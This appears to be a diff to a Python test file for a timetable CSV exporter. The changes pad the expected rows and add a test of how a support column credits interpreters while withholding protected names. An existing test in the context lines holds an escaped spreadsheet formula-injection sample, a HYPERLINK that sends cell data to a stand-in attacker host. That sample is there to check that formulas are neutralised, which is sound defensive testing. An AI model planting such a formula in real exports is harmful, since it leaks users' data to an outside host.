@@ -27,6 +27,7 @@ EXPECTED_ROWS = [
         "Ada Lovelace; Bo Diddley",
         "Sam Jones",
         "Pat Smith",
+        "",
     ],
     [
         "2026-03-10",
@@ -39,6 +40,7 @@ EXPECTED_ROWS = [
         "",
         "",
         "Ada Lovelace",
+        "",
         "",
         "",
     ],
@@ -55,6 +57,7 @@ EXPECTED_ROWS = [
         "Bo Diddley",
         "",
         "Sam Jones",
+        "",
     ],
 ]
 
@@ -115,3 +118,23 @@ def test_no_cell_of_the_workbook_is_a_formula():
         "'=== Opening ===",
         '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     ]
+
+
+def test_the_support_column_says_who_is_there_for_whom_without_naming_protected_people():
+    visit = tiny_visit()
+    sam = domain.Person("p9", "Sam Reid", role="BSL interpreter", kind="partner")
+    carer = domain.Person("p8", "Rosa Diaz", role="BSL interpreter", kind="carer")
+    people = tuple(
+        dataclasses.replace(p, supporters=("p9", "p8")) if p.id == "p1" else p for p in visit.people
+    )
+    visit = dataclasses.replace(visit, people=(*people, sam, carer))
+    timetable = tiny_timetable()
+    supported = dataclasses.replace(
+        timetable,
+        assignments=tuple(
+            dataclasses.replace(a, support=("p9", "p8")) if a.session == "s1" else a
+            for a in timetable.assignments
+        ),
+    )
+    rows = list(csv.reader(io.StringIO(timetable_csv(visit, supported))))
+    assert rows[1][-1] == "Pat Smith with BSL interpreter Sam Reid and BSL interpreter carer"
